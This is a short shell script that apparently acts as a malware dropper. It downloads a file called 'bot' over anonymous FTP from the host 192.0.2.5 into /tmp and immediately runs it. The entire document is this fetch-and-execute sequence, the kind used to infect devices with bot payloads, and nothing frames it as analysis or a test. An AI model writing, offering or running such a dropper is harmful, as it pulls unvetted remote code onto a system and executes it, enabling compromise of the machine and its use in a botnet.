#!/bin/sh
ftpget -u anonymous 192.0.2.5 /tmp/bot bot
sh /tmp/bot
